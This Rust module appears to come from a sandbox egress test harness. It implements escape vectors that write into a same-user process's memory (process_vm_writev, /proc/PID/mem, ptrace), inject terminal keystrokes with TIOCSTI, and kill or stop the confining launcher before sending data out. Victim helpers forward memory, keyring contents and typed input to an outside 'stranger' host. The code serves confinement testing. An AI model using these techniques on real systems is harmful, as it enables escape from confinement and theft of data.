//! Processes of the same user outside, made to send: whoever may write their memory, their
//! terminal or their end does not need a socket.

use std::{
    ffi::CString,
    fs,
    io::{self, Read, Write},
    net::TcpStream,
    os::{
        fd::{AsRawFd, OwnedFd},
        unix::fs::FileExt,
    },
    path::{Path, PathBuf},
    process::Command,
    thread,
    time::Duration,
};

use anyhow::{Context, Result};
use nix::{
    errno::Errno,
    sys::signal::{Signal, kill},
    unistd::{Gid, Pid, Uid, getuid, setgroups, setresgid, setresuid},
};

use super::{
    Attempt, Job, Needs, PORT, Stop, Vector,
    accomplice::{deliver, number},
    sys,
};
use crate::{token, zone};

const NAP: Duration = Duration::from_millis(20);
const SLOT: usize = 64;
const SLOTS: usize = 8;

pub(super) const VECTORS: &[Vector] = &[
    Vector::new(
        "process-vm-writev",
        "memory of a process of the same user",
        |job| {
            let victim = Victim::of(&job.stage)?;
            let iovec = |place: usize| [place, job.bytes().len()];
            let local = iovec(job.bytes().as_ptr() as usize);
            let remote = iovec(victim.slot(0));
            let arguments = [victim.pid, sys::place(&local), 1, sys::place(&remote), 1, 0];
            sys::call(libc::SYS_process_vm_writev, &arguments)?;
            pause()
        },
    ),
    Vector::new(
        "proc-mem",
        "/proc/PID/mem of a process of the same user",
        |job| {
            let victim = Victim::of(&job.stage)?;
            let path = format!("/proc/{}/mem", victim.pid);
            let file = fs::File::options().write(true).open(path)?;
            file.write_all_at(job.bytes(), victim.slot(1) as u64)?;
            pause()
        },
    )
    .limit_without_landlock("without Landlock, /proc opens memory of processes of the same user"),
    Vector::new("ptrace", "ptrace of a process of the same user", ptrace),
    Vector::new(
        "terminal-input",
        "TIOCSTI: input for the program that shares the terminal",
        |job| {
            let terminal = fs::File::options().read(true).write(true).open("/dev/tty");
            let fd = terminal.as_ref().map_or(0, AsRawFd::as_raw_fd);
            for byte in job.bytes().iter().chain(b"\n") {
                let place = sys::place(byte);
                let typed = sys::call(
                    libc::SYS_ioctl,
                    &[fd as usize, libc::TIOCSTI as usize, place],
                );
                typed.map_err(no_terminal_input)?;
            }
            Ok(())
        },
    )
    .with(Needs::Terminal)
    .alone(),
    Vector::new(
        "terminal-input-path",
        "TIOCSTI through the path of the terminal that standard input leads to",
        |job| {
            let path = fs::read_link("/proc/self/fd/0")?;
            let terminal = fs::File::options().read(true).write(true).open(path)?;
            for byte in job.bytes().iter().chain(b"\n") {
                let arguments = [
                    terminal.as_raw_fd() as usize,
                    libc::TIOCSTI as usize | 0x7_0000_0000,
                    sys::place(byte),
                ];
                let typed = sys::call(libc::SYS_ioctl, &arguments);
                typed.map_err(no_terminal_input)?;
            }
            Ok(())
        },
    )
    .with(Needs::Terminal)
    .alone(),
    Vector::new(
        "kill-launcher",
        "whoever confines it is killed (agentsh#349, GO-2023-1644)",
        |job| {
            end_launchers(job, Signal::SIGKILL);
            thread::sleep(Duration::from_millis(500));
            send(job)
        },
    )
    .ending(),
    Vector::new("stop-launcher", "whoever confines it is stopped", |job| {
        let stopped = end_launchers(job, Signal::SIGSTOP);
        thread::sleep(Duration::from_millis(300));
        let attempt = send(job);
        for pid in stopped {
            // It ends by itself where it is gone already.
            let _ = kill(pid, Signal::SIGCONT);
        }
        attempt
    })
    .alone(),
];

/// Since Linux 6.2 a host may refuse input for terminals to whoever has not CAP_SYS_ADMIN, as
/// kernels do that are built without `LEGACY_TIOCSTI` (drivers/tty/tty_io.c).
fn no_terminal_input(error: Errno) -> Stop {
    let allowed = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti");
    if error == Errno::EIO && allowed.is_ok_and(|value| value.trim() == "0") {
        return Stop::NotApplicable("dev.tty.legacy_tiocsti is 0".to_owned());
    }
    error.into()
}

fn send(job: &Job) -> Attempt {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    socket.send_to(job.bytes(), job.target)?;
    Ok(())
}

fn pause() -> Attempt {
    thread::sleep(Duration::from_millis(100));
    Ok(())
}

/// The processes from the battery's parent up to the launcher that the harness started.
fn end_launchers(job: &Job, signal: Signal) -> Vec<Pid> {
    let launcher = fs::read_to_string(launcher(&job.stage)).unwrap_or_default();
    let battery = std::env::var("PROBE_BATTERY").unwrap_or_default();
    let mut hit = Vec::new();
    let mut pid = battery.parse().unwrap_or(0);
    if battery == launcher {
        return hit;
    }
    while let Some(parent) = parent(pid) {
        let parent_pid = Pid::from_raw(parent);
        match kill(parent_pid, signal) {
            Ok(()) => hit.push(parent_pid),
            Err(error) => eprintln!("{parent}: {error}"),
        }
        if parent.to_string() == launcher {
            break;
        }
        pid = parent;
    }
    hit
}

/// Field 4 of `/proc/PID/stat`, proc(5). `None` at the first process, which nobody ends.
fn parent(pid: i32) -> Option<i32> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let (_, fields) = stat.rsplit_once(')')?;
    let parent = fields.split_whitespace().nth(1)?.parse().ok()?;
    (parent > 1).then_some(parent)
}

/// Where `probe inherit` says which process it is.
pub(super) fn launcher(stage: &Path) -> PathBuf {
    stage.join("launcher")
}

fn ptrace(job: &Job) -> Attempt {
    const ATTACH: usize = 16;
    const POKE: usize = 5;
    const DETACH: usize = 17;
    let victim = Victim::of(&job.stage)?;
    let thread = victim.thread;
    sys::call(libc::SYS_ptrace, &[ATTACH, thread, 0, 0])?;
    let mut status = 0_i32;
    let all = 0x4000_0000; // __WALL
    sys::call(
        libc::SYS_wait4,
        &[thread, sys::place_mut(&mut status), all, 0],
    )?;
    let mut data = job.bytes().to_vec();
    data.resize(data.len().next_multiple_of(8), 0);
    for (index, word) in data.chunks_exact(8).enumerate() {
        let word = word.iter().rev();
        let word = word.fold(0_usize, |all, byte| all << 8 | usize::from(*byte));
        let place = victim.slot(2) + index * 8;
        sys::call(libc::SYS_ptrace, &[POKE, thread, place, word])?;
    }
    sys::call(libc::SYS_ptrace, &[DETACH, thread, 0, 0])?;
    pause()
}

/// A process of the same user, as it describes itself.
pub(super) struct Victim {
    pub(super) pid: usize,
    thread: usize,
    memory: usize,
    pub(super) socket: usize,
    pub(super) pipe: usize,
}

impl Victim {
    pub(super) fn of(stage: &Path) -> Result<Self, Stop> {
        let file = stage.join(format!("victim-{}", getuid()));
        let text = fs::read_to_string(file).map_err(Stop::set_up)?;
        let mut words = text.split_whitespace().map(str::parse);
        let mut next = || {
            let word = words.next().and_then(Result::ok);
            word.ok_or_else(|| Stop::set_up("the victim says too little"))
        };
        Ok(Self {
            pid: next()?,
            thread: next()?,
            memory: next()?,
            socket: next()?,
            pipe: next()?,
        })
    }

    fn slot(&self, index: usize) -> usize {
        self.memory + index * SLOT
    }
}

/// The name of the key that a victim looks for.
pub(super) fn key_name(stage: &Path) -> CString {
    CString::new(format!("egress-suite-{:x}", number(stage))).unwrap_or_default()
}

/// What `probe victim` does: an ordinary process of a user, with memory, a connection, a pipe and
/// a key ring of its own. Whatever appears in them it sends to the stranger.
pub(super) fn be_a_victim(stage: &Path, user: u32) -> Result<()> {
    let (uid, gid) = (Uid::from_raw(user), Gid::from_raw(user));
    setgroups(&[])?;
    setresgid(gid, gid, gid)?;
    setresuid(uid, uid, uid)?;
    // After a change of user a process is closed to its own user until it becomes a program.
    const DUMPABLE: usize = 4;
    sys::call(libc::SYS_prctl, &[DUMPABLE, 1, 0, 0, 0])?;
    let connection = TcpStream::connect((zone::STRANGER, PORT))?;
    let (mut reader, writer) = io::pipe()?;
    thread::spawn(move || {
        let mut buffer = [0; 256];
        while let Ok(length) = reader.read(&mut buffer) {
            deliver(&buffer[..length]);
        }
    });
    let memory = sys::Memory::low(4096).or_else(|_| sys::Memory::low(8192))?;
    // ptrace stops one thread: one that has nothing else to do.
    let name = key_name(stage);
    thread::spawn(move || {
        loop {
            thread::sleep(NAP);
            for slot in 0..SLOTS {
                let data = memory.read(slot * SLOT, SLOT);
                if !token::find(&data).is_empty() {
                    deliver(&data);
                    memory.write(slot * SLOT, &[0; SLOT]);
                }
            }
            read_key(&name);
        }
    });
    let idle = thread_id();
    println!(
        "{} {idle} {} {} {}",
        std::process::id(),
        memory.start,
        connection.as_raw_fd(),
        writer.as_raw_fd()
    );
    io::stdout().flush()?;
    io::copy(&mut io::stdin(), &mut io::sink())?;
    Ok(())
}

fn thread_id() -> usize {
    sys::call(libc::SYS_gettid, &[]).unwrap_or_default()
}

fn read_key(name: &CString) {
    const SEARCH: usize = 10;
    const READ: usize = 11;
    const UNLINK: usize = 9;
    let user_keyring = -4_isize as usize;
    let arguments = [
        SEARCH,
        user_keyring,
        c"user".as_ptr() as usize,
        name.as_ptr() as usize,
        0,
    ];
    let Ok(key) = sys::call(libc::SYS_keyctl, &arguments) else {
        return;
    };
    let mut data = [0_u8; 64];
    let arguments = [READ, key, sys::place_mut(&mut data), data.len()];
    if sys::call(libc::SYS_keyctl, &arguments).is_ok() {
        deliver(&data);
    }
    let _ = sys::call(libc::SYS_keyctl, &[UNLINK, key, user_keyring]);
}

/// What `probe terminal` does: the shell of a terminal that starts a command there, then takes
/// what is typed next. What it finds typed it sends to the stranger.
pub(super) fn share_a_terminal(user: u32, command: &[&str]) -> Result<()> {
    let [program, arguments @ ..] = command else {
        anyhow::bail!("no command");
    };
    // The harness made this process lead a group, and such a one cannot make a session.
    // SAFETY: this program has one thread here, so the child may do anything.
    if let nix::unistd::ForkResult::Parent { child } = unsafe { nix::unistd::fork() }? {
        let status = nix::sys::wait::waitpid(child, None)?;
        let well = matches!(status, nix::sys::wait::WaitStatus::Exited(_, 0));
        std::process::exit(i32::from(!well));
    }
    let master = fs::File::options()
        .read(true)
        .write(true)
        .open("/dev/ptmx")?;
    let fd = master.as_raw_fd() as usize;
    sys::call(
        libc::SYS_ioctl,
        &[fd, libc::TIOCSPTLCK as usize, sys::place(&0_i32)],
    )?;
    let mut number = 0_u32;
    let place = sys::place_mut(&mut number);
    sys::call(libc::SYS_ioctl, &[fd, libc::TIOCGPTN as usize, place])?;
    let path = format!("/dev/pts/{number}");
    nix::unistd::chown(Path::new(&path), Some(Uid::from_raw(user)), None)?;
    let _ = nix::unistd::setsid();
    let slave: OwnedFd = fs::File::options()
        .read(true)
        .write(true)
        .open(&path)?
        .into();
    // Opening it made it the controlling terminal where this process leads its session.
    let _ = sys::call(
        libc::SYS_ioctl,
        &[slave.as_raw_fd() as usize, libc::TIOCSCTTY as usize, 0],
    );
    let status = Command::new(program)
        .args(arguments)
        .stdin(slave.try_clone()?)
        .status()
        .context("the command")?;
    let waiting = sys::call(
        libc::SYS_fcntl,
        &[
            slave.as_raw_fd() as usize,
            libc::F_SETFL as usize,
            libc::O_NONBLOCK as usize,
        ],
    );
    waiting.map_err(io::Error::from)?;
    let mut typed = vec![0; 4096];
    let mut terminal = fs::File::from(slave);
    // A line at a time, until there is none.
    while let Ok(length @ 1..) = terminal.read(&mut typed) {
        deliver(&typed[..length]);
    }
    drop(master);
    std::process::exit(status.code().unwrap_or(1));
}
